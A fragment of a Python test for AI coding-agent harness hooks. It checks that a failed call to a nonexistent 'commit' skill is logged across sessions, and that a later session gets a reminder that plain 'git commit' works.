        return hook({"hook_event_name": "PostToolBatch", "session_id": sid, "cwd": str(repo),
                     "tool_calls": [{"tool_name": "Skill", "tool_input": {"skill": "commit"},
                                     "tool_use_id": tid, "tool_response":
                                     "<tool_use_error>Unknown skill: commit</tool_use_error>"}]},
                    "2026-03-02T10:00:00Z")
    assert batch("s1", "t1") == ""
    hook(call("s1", "t2", "git add a.py && git commit -m 'add a'", repo), "2026-03-02T10:01:00Z")
    hook({"hook_event_name": "SessionEnd", "session_id": "s1", "cwd": str(repo)},
         "2026-03-02T10:02:00Z")
    out = batch("s2", "t1")  # (a scripted client's ids repeat across sessions)
    assert json.loads(out)["hookSpecificOutput"]["hookEventName"] == "PostToolBatch"
    assert "there is no `commit` skill in this setup; `git commit` did its job" in context(out)
    failed = [json.loads(line) for line in (store / "observations.jsonl").read_text()
              .splitlines() if '"tool_failure"' in line]
    assert [(o["session_id"], o["tool"], o["args"], o["error"]) for o in failed] == [
        ("s1", "Skill", "commit", "Unknown skill: commit"),
        ("s2", "Skill", "commit", "Unknown skill: commit")]
    assert batch("s2", "t1") == ""  # listed again: already kept, already said
